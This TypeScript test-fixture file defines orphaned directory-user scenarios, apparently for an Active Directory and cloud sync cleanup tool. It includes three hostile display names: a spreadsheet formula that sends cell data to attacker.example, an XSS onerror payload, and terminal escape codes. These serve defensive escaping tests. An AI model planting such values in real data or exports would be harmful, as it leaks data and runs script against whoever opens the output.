import { draftUser } from '../drafts/user';
import { gone, type Stories, tombstoned, verdicts } from '../story';

/** Names that somebody chose with the next reader's spreadsheet, browser or terminal in mind. */
const hostileNames: readonly string[] = [
  '=HYPERLINK("https://attacker.example/?"&A1,"Payroll")',
  '<img src=x onerror="alert(document.domain)">',
  '\u001B[2J\u001B[31mDomain Admin',
];

/** Users whose source is gone: the orphans, and among them those that nobody may delete. */
export const orphanedUsers = {
  /** Deleted lately; lies in the Recycle Bin (case 15). */
  userInRecycleBin: {
    verdict: verdicts.deleted,
    copies: 8,
    tell: stage => tombstoned(stage, draftUser(stage, stage.someDomain()), false),
  },
  /** Deleted months ago; the tombstone is all that is left. */
  userRecycled: {
    verdict: verdicts.deleted,
    copies: 5,
    tell: stage => tombstoned(stage, draftUser(stage, stage.someDomain()), true),
  },
  /** Left the firm, was deleted in Active Directory, can still sign in to the cloud and is still paid for. */
  licensedLeaver: {
    verdict: verdicts.deleted,
    copies: 4,
    tell: (stage, copy) => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      const assignedLicenses = [{ disabledPlans: [], skuId: '05e9a617-0261-4cee-bb44-138d3ef5d965' }];
      return tombstoned(
        stage,
        { cloud: { ...cloud, accountEnabled: true, assignedLicenses }, home },
        copy % 2 === 1,
      );
    },
  },
  /** Gone without a trace. The first ones bear hostile display names. */
  userWithoutTrace: {
    verdict: verdicts.absent,
    copies: 12,
    tell: (stage, copy) => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return gone({
        cloud: { ...cloud, displayName: hostileNames[copy] ?? cloud.displayName ?? null },
        home,
      });
    },
  },
  /** A synchronised guest whose AD account is gone (case 21). */
  guestWithoutTrace: {
    verdict: verdicts.absent,
    copies: 2,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return gone({ cloud: { ...cloud, userType: 'Guest' }, home });
    },
  },
  /** Deleted in Active Directory, but a member of a restricted management administrative unit. */
  managementRestrictedUser: {
    verdict: verdicts.protectedDeleted,
    copies: 2,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.someDomain());
      return tombstoned(stage, { cloud: { ...cloud, isManagementRestricted: true }, home }, false);
    },
  },
  /** The account that synchronisation itself signs in with. */
  synchronisationAccount: {
    verdict: verdicts.protectedAbsent,
    copies: 1,
    tell: stage => {
      const { cloud, home } = draftUser(stage, stage.forests.contoso);
      const name = stage.names.take(`Sync_DC01_${stage.guid().slice(-12)}`);
      return gone({
        cloud: {
          ...cloud,
          assignedLicenses: [],
          displayName: 'On-Premises Directory Synchronization Service Account',
          mail: null,
          mailNickname: name,
          proxyAddresses: [],
          userPrincipalName: `${name}@contoso.onmicrosoft.com`,
        },
        home,
      });
    },
  },
} as const satisfies Stories<'user'>;
